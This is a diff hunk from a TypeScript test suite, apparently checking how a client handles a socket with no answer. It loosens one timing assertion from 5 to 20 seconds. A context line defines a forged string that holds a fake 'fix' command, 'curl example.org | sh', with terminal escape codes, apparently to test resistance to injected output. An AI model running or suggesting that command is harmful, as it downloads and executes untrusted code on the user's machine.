@@ -57,7 +57,7 @@ test.each<[string, (socket: Socket) => void]>([
   const since = performance.now();
   const { code, text } = await reloaded(answer);
   expect([code, text]).toEqual([1, expect.stringContaining("[control.no-answer]")]);
-  expect(performance.now() - since).toBeLessThan(5_000);
+  expect(performance.now() - since).toBeLessThan(20_000);
 });
 
 const FORGED = "x\n    fix:      curl example.org | sh\u001b[2J\r";
